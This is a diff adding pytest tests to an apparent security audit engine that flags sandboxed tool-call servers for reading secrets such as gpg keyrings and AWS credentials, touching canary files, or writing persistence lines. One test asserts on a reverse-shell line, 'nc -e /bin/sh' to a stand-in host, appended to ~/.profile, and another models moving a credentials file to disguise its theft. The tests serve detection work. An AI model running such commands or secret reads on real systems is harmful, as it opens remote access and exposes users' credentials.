@@ -6,7 +6,7 @@ from __future__ import annotations
 
 from typing import Any
 
-from mtguard_rt.audit import CallContext, load_policy
+from mtguard_rt.audit import CallContext, PolicyEngine, load_policy
 from mtguard_rt.audit.consent import WriteConsent
 from mtguard_rt.audit.engine import PostRule
 from mtguard_rt.audit.online import OnlineRules
@@ -170,3 +170,82 @@ def test_a_persistence_edit_with_an_unasked_line_is_denied_naming_the_line() -> 
     assert v.evidence[0].endswith("; argument 'text' writes 'nc -e /bin/sh x.example 4444'")
     online = OnlineRules(POLICY, ctx).check(CHILD, opened(f"{HOME}/.profile", "write", "append"))
     assert online is not None and online.rule == "persistence-write"
+
+
+def _ev(ts: int, op: str, path: str, *flags: str, result: int = 0, target: str = "") -> FileEvent:
+    return FileEvent(
+        ts_ns=ts, op=op, path=path, flags=list(flags), result=result, target=target or None
+    )  # type: ignore[arg-type]
+
+
+GNUPG = f"{HOME}/.gnupg"
+
+
+def test_a_keyring_the_sandbox_created_is_not_a_secret_read_but_a_preexisting_one_is() -> None:
+    """gpg in an empty home: probes (ENOENT), mkdir, creates its keyring (write-only) and a
+    lock, reads them back. None of it held a user secret; the same read of a keyring that
+    was there before the call is a read."""
+    ctx = ctx_for("commit", {"message": "fix typo"})
+    tree = server_tree(ctx.call)
+    made = [
+        _ev(7000, "open", f"{GNUPG}/pubring.kbx", "read", result=ENOENT),
+        _ev(7001, "mkdir", GNUPG),
+        _ev(7002, "open", f"{GNUPG}/pubring.kbx", "write", "create", "truncate", result=3),
+        _ev(7003, "open", f"{GNUPG}/pubring.kbx.lock", "read", result=3),  # a link: untraced
+        _ev(7004, "open", f"{GNUPG}/pubring.kbx", "read", result=3),
+    ]
+    child(tree, 42, ["gpg", "--list-keys"], files=made)
+    assert run(sensitive_file_read, ctx, tree) == []
+    # without the mkdir and the create, the same reads are of files that were there
+    pre = server_tree(ctx.call)
+    child(pre, 42, ["gpg", "--list-keys"], files=[made[3], made[4]])
+    [v] = run(sensitive_file_read, ctx, pre)
+    assert len(v.evidence) == 2 and "pubring.kbx (read)" in v.evidence[1]
+
+
+def test_a_write_only_open_is_not_a_read_and_a_secret_moved_in_stays_foreign() -> None:
+    ctx = ctx_for("commit", {"message": "fix typo"})
+    tree = server_tree(ctx.call)
+    child(tree, 42, ["gpg"], files=[_ev(7000, "open", f"{GNUPG}/trustdb.gpg", "write", result=3)])
+    assert run(sensitive_file_read, ctx, tree) == []
+    # a directory made here, a secret renamed into it, then read: a read of the secret
+    moved = server_tree(ctx.call)
+    files = [
+        _ev(7001, "mkdir", f"{GNUPG}/x"),
+        _ev(7002, "rename", f"{HOME}/.aws/credentials", target=f"{GNUPG}/x/credentials"),
+        _ev(7003, "open", f"{GNUPG}/x/credentials", "read", result=3),
+    ]
+    child(moved, 42, ["sh"], files=files)
+    [v] = run(sensitive_file_read, ctx, moved)
+    assert "x/credentials (read)" in v.evidence[0]
+
+
+def test_a_file_made_in_an_earlier_call_of_the_session_is_still_the_sandboxs() -> None:
+    engine = PolicyEngine(POLICY)
+    first = ctx_for("commit", {"message": "one"})
+    t1 = server_tree(first.call)
+    child(t1, 42, ["gpg"], files=[
+        _ev(7001, "mkdir", GNUPG),
+        _ev(7002, "open", f"{GNUPG}/pubring.kbx", "write", "create", "truncate", result=3),
+    ])  # fmt: skip
+    assert "sensitive-file-read" not in engine.post_rules(first, t1, RESULT).rules
+    second = ctx_for("tag", {"name": "v1"}, call_id="c2")
+    t2 = server_tree(second.call)
+    child(t2, 43, ["gpg"], files=[_ev(7003, "open", f"{GNUPG}/pubring.kbx", "read", result=3)])
+    assert "sensitive-file-read" not in engine.post_rules(second, t2, RESULT).rules
+    # another server's session knows nothing of it
+    other = ctx_for("tag", {"name": "v1"}, server="other", call_id="c3")
+    t3 = server_tree(other.call)
+    child(t3, 44, ["gpg"], files=[_ev(7003, "open", f"{GNUPG}/pubring.kbx", "read", result=3)])
+    assert "sensitive-file-read" in engine.post_rules(other, t3, RESULT).rules
+
+
+def test_a_canary_the_sandbox_truncated_and_read_is_still_touched() -> None:
+    ctx = ctx_for("get_weather", {"city": "Paris"})
+    tree = server_tree(ctx.call)
+    canary = next(iter(ctx.canaries))
+    child(tree, 42, ["sh"], files=[
+        _ev(7001, "open", canary, "write", "truncate", result=3),
+        _ev(7002, "open", canary, "read", result=3),
+    ])  # fmt: skip
+    assert run(canary_touched, ctx, tree) != []
